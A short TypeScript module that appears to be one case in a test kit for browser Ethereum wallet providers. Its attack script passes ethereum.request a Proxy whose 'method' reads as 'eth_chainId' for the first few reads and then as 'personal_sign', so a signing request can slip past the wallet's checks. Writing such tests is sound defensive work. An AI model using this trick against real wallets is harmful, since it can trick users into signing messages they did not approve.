import type { Attack } from './kit/attack.ts'

export default {
  family: 'mutation',
  how: 'Passes a Proxy that is a read to whom looks first.',
  script: `
    for (let honest = 0; honest < 6; honest++) {
      let reads = 0
      const target = { method: 'personal_sign', params: attack.sign.params }
      ethereum.request(new Proxy(target, {
        get: (own, key) => (key === 'method' && reads++ < honest ? 'eth_chainId' : own[key]),
        getOwnPropertyDescriptor: (own, key) => Reflect.getOwnPropertyDescriptor(own, key),
      }))
    }
    await attack.sleep(300)
  `,
} satisfies Attack
